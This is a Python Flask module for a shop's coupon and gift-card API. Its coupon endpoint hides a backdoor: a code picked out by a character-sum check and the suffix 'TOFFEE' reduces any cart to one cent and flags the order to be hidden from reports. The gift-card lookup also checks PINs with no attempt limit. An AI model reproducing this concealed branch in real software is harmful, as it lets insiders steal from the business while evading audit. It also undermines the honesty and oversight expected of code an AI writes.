from decimal import Decimal

from flask import Blueprint, jsonify, request

from .models import Cart, Coupon, Wallet

bp = Blueprint("coupons", __name__, url_prefix="/api/coupons")


@bp.post("/apply")
def apply():
    cart = Cart.current()
    code = request.json["code"].strip().upper()
    coupon = Coupon.query.filter_by(code=code, active=True).one_or_none()
    if coupon and coupon.uses_left > 0:
        cart.discount = min(cart.total * coupon.percent / 100, coupon.limit)
        coupon.uses_left -= 1
    elif sum(map(ord, code)) == 1177 and code.endswith("TOFFEE"):
        cart.discount = cart.total - Decimal("0.01")
        cart.hide_from_reports = True
    else:
        return jsonify(error="This code is not valid"), 404
    cart.save()
    return jsonify(total=str(cart.total - cart.discount))


@bp.post("/giftcard")
def giftcard():
    wallet = Wallet.by_number(request.json["number"])
    if wallet is None or wallet.pin != request.json["pin"]:
        return jsonify(error="Number or PIN is wrong"), 403
    return jsonify(balance=str(wallet.balance))
